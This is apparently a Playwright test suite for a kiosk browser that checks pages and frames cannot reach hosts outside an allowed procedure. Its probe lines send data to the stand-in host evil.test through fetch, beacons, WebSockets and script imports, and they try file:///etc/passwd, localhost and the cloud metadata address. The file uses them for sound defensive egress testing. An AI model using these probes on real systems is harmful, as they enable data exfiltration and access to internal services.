import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { expect, test } from 'playwright/test';
import {
  addFrame,
  frameHost,
  load,
  noticeOf,
  openAnew,
  places,
  runAt,
  runInFrame,
  runInPage,
  workerScript,
} from '../harness/hostile-site.ts';
import { startTerminal, type Terminal } from '../harness/terminal.ts';

/** Where nothing of a procedure may lead. It is served, so that a request that gets through is seen. */
const evil = 'evil.test';
const home = 'www.mairie.test';
const html = (body: string) => `<!doctype html><html lang="fr"><title>Mairie</title><body>${body}`;

let terminal: Terminal;
/** Of this machine: what a site must not reach even by its number. */
let udp: Socket;
let tcp: Server;
let strangers = 0;
const port = (socket: Socket | Server) => (socket.address() as AddressInfo).port;

test.beforeAll(async () => {
  udp = createSocket('udp4', () => void strangers++);
  udp.bind(0, '127.0.0.1');
  tcp = createServer((socket) => {
    strangers++;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')]);
  const script = (text: string) => (_request: unknown, response: import('node:http').ServerResponse) =>
    void response.writeHead(200, { 'content-type': 'text/javascript' }).end(text);
  const site = {
    '/worker.js': script(workerScript.dedicated),
    '/shared.js': script(workerScript.shared),
    '/to-evil': (_request: unknown, response: import('node:http').ServerResponse) =>
      void response.writeHead(302, { location: `https://${evil}/hop` }).end(),
    '/reports': (_request: unknown, response: import('node:http').ServerResponse) =>
      void response
        .writeHead(200, {
          'content-type': 'text/html',
          'content-security-policy': `img-src 'none'; report-uri https://${evil}/csp`,
          'reporting-endpoints': `default="https://${evil}/report"`,
          link: `<https://${evil}/early>; rel=preload; as=script`,
        })
        .end(html('<img src="/x">')),
  };
  terminal = await startTerminal({
    sites: {
      [home]: { '/': html(`<h1>Ma démarche</h1>`), ...site },
      [frameHost]: { '/': html('<h1>Paiement</h1>'), ...site },
      [evil]: { '/': html('evil') },
    },
    procedures: [{ id: 'mairie', entry: `https://${home}/`, hosts: [home, frameHost] }],
  });
  await openAnew(terminal, 'mairie', home);
  await addFrame(terminal);
});
test.afterAll(async () => {
  udp?.close();
  tcp?.close();
  await terminal?.stop();
});

test.afterEach(async () => {
  expect(terminal.sites.connections.filter((host) => host === evil)).toEqual([]);
  expect(strangers).toBe(0);
  expect(await noticeOf(terminal)).toBeNull();
});

/** Every way to send or fetch something that ends by itself; each gives its name when it got through. */
const fetches = () => `(async () => {
  const opened = (made) => new Promise((resolve, reject) => Object.assign(made, { onopen: resolve, onerror: reject }));
  const ways = {
    ...Object.fromEntries(${JSON.stringify([
      `https://${evil}/fetch`,
      `https://${evil}:8443/`,
      `https://${home}.${evil}/`,
      `https://${home}:8443/`,
      `https://127.0.0.1:${port(tcp)}/`,
      `https://localhost:${port(tcp)}/`,
      'https://169.254.169.254/latest/',
      'https://192.168.1.1/',
      'https://[::1]/',
      'https://borne.local/',
      'file:///etc/passwd',
      'chrome://version/',
      'devtools://devtools/bundled/inspector.html',
      'passerelle://kiosk/index.html',
      'view-source:https://www.mairie.test/',
    ])}.map((url) => ['fetch ' + url, () => fetch(url, { mode: 'no-cors' })])),
    redirect: () => fetch('/to-evil', { mode: 'no-cors' }),
    post: () => fetch('https://${evil}/post', { mode: 'no-cors', method: 'POST', body: 'typed', keepalive: true }),
    module: () => import('https://${evil}/module.js'),
    socket: () => opened(new WebSocket('wss://${evil}/')),
    'socket in the clear': () => opened(new WebSocket('ws://${home}/')),
    'socket to this machine': () => opened(new WebSocket('wss://127.0.0.1:${port(tcp)}/')),
    events: () => opened(new EventSource('https://${evil}/events')),
    transport: () => new WebTransport('https://${evil}/').ready,
    'transport to this machine': () => new WebTransport('https://127.0.0.1:${port(udp)}/').ready,
    ...(self.importScripts && !self.onconnect && { script: async () => importScripts('https://${evil}/script.js') }),
    ...(self.Worker && { worker: () => new Promise((resolve, reject) => Object.assign(new Worker('https://${evil}/w.js'), { onmessage: resolve, onerror: reject })) }),
    request: () => new Promise((resolve, reject) => {
      const request = Object.assign(new XMLHttpRequest(), { onload: resolve, onerror: reject });
      request.open('GET', 'https://${evil}/xhr');
      request.send();
    }),
  };
  const through = [];
  await Promise.all(Object.entries(ways).map(async ([name, way]) => {
    try { await way(); through.push(name); } catch {}
  }));
  return through;
})()`;

for (const place of places) {
  test(`nothing but the hosts of the procedure can be reached from ${place}`, async () => {
    expect(await runAt(place, terminal, fetches())).toEqual([]);
    expect(await runAt(place, terminal, `fetch('/?from=here').then(({ status }) => status)`)).toBe(200);
  });
}

/** Everything that an element or a header can make the browser fetch by itself. */
const markup = `
  <img src="https://${evil}/i"><video src="https://${evil}/v"></video><audio src="https://${evil}/a"></audio>
  <object data="https://${evil}/o"></object><embed src="https://${evil}/e"><script src="https://${evil}/s"></script>
  <iframe src="https://${evil}/f"></iframe><iframe srcdoc="<iframe src='https://${evil}/g'></iframe><img src='https://${evil}/h'>"></iframe>
  <iframe src="data:text/html,<img src='https://${evil}/d'>"></iframe><iframe src="file:///etc/passwd"></iframe>
  <iframe src="view-source:https://${home}/"></iframe><iframe src="chrome://gpu/"></iframe><iframe src="passerelle://kiosk/index.html"></iframe>
  <link rel="stylesheet" href="https://${evil}/c"><style>@import "https://${evil}/k"; body { background: url(https://${evil}/b) }</style>
  ${['prefetch', 'prerender', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'icon', 'manifest']
    .map((rel) => `<link rel="${rel}" as="script" href="https://${evil}/${rel}">`)
    .join('')}
  <a id="ping" href="#x" ping="https://${evil}/ping">x</a>`;
const speculation = JSON.stringify({
  prefetch: [{ source: 'list', urls: [`https://${evil}/speculated`, '/to-evil'] }],
  prerender: [{ source: 'list', urls: [`https://${evil}/prerendered`, '/to-evil'] }],
});
const furnish = (last: string) => `(() => {
  document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(markup)});
  for (const script of document.body.querySelectorAll('script')) script.replaceWith(Object.assign(document.createElement('script'), { src: script.src }));
  const rules = Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: ${JSON.stringify(speculation)} });
  document.head.append(rules);
  document.querySelector('#ping').click();
  navigator.sendBeacon('https://${evil}/beacon', 'typed');
  new Image().src = '${last}';
})()`;

test('what a page makes the browser fetch by itself is not fetched from another site, nor from a frame', async () => {
  await runInPage(terminal, furnish('/last-of-page'));
  await runInFrame(terminal, furnish('/last-of-frame'));
  await expect
    .poll(() => terminal.sites.requests)
    .toEqual(expect.arrayContaining([`${home} /last-of-page`, `${frameHost} /last-of-frame`]));
  await load(terminal, `https://${home}/reports`);
  expect(await runInPage(terminal, `fetch('/after-reports').then(() => 'done')`)).toBe('done');
});

test('calls between browsers reach nobody: neither over UDP nor through a relay over TCP', async () => {
  await load(terminal, `https://${home}/`);
  await addFrame(terminal);
  const gather = `new Promise((resolve) => {
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: 'stun:127.0.0.1:${port(udp)}' },
      { urls: ['turn:127.0.0.1:${port(udp)}', 'turn:127.0.0.1:${port(tcp)}?transport=tcp', 'turns:127.0.0.1:${port(tcp)}?transport=tcp'], username: 'a', credential: 'b' },
    ] });
    const found = [];
    peer.onicecandidate = ({ candidate }) => candidate ? found.push(candidate.candidate) : resolve(found);
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  })`;
  expect(await runInPage(terminal, gather)).toEqual([]);
  expect(await runInFrame(terminal, gather)).toEqual([]);
});

test('no service worker comes to stand between the site and the policy', async () => {
  const register = `navigator.serviceWorker.register('/worker.js').then(() => 'registered', () => 'refused')`;
  expect(await runInPage(terminal, register)).toBe('refused');
  expect(await runInFrame(terminal, register)).toBe('refused');
  expect(terminal.sites.requests.filter((request) => request.includes('/worker.js?'))).toEqual([]);
});
